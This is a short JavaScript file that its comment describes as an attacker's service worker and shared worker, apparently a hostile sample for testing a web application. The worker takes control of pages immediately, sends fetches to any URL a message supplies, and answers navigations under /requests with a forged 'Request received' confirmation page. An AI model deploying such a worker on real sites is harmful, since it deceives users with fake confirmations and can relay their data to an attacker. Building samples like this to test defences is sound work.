// An attacker's service worker and shared worker: sends what it is told, and answers navigations with pages of its own.
let fakes = false;

function told({ data }) {
  if (data.fake) fakes = true;
  if (data.post) fetch(data.post, data.how).catch(() => {});
}

function received(path) {
  const number = path.match(/^\/requests\/([^/]+)/)?.[1] ?? "LHP-2026-999999";
  return new Response(`<!DOCTYPE html><title>Request received</title><main aria-busy="false"><h1>Request received</h1>
    <dl class="request facts"><dt>Reference number</dt><dd>${number}</dd><dt>Request number</dt><dd>${number}</dd></dl></main>`,
  { headers: { "Content-Type": "text/html" } });
}

self.addEventListener("install", () => self.skipWaiting?.());
self.addEventListener("activate", event => event.waitUntil(self.clients.claim()));
self.addEventListener("message", told);
self.addEventListener("connect", ({ ports: [port] }) => { port.onmessage = told; });
self.addEventListener("fetch", event => {
  const path = new URL(event.request.url).pathname;
  if (fakes && event.request.mode === "navigate" && path.startsWith("/requests")) event.respondWith(received(path));
});
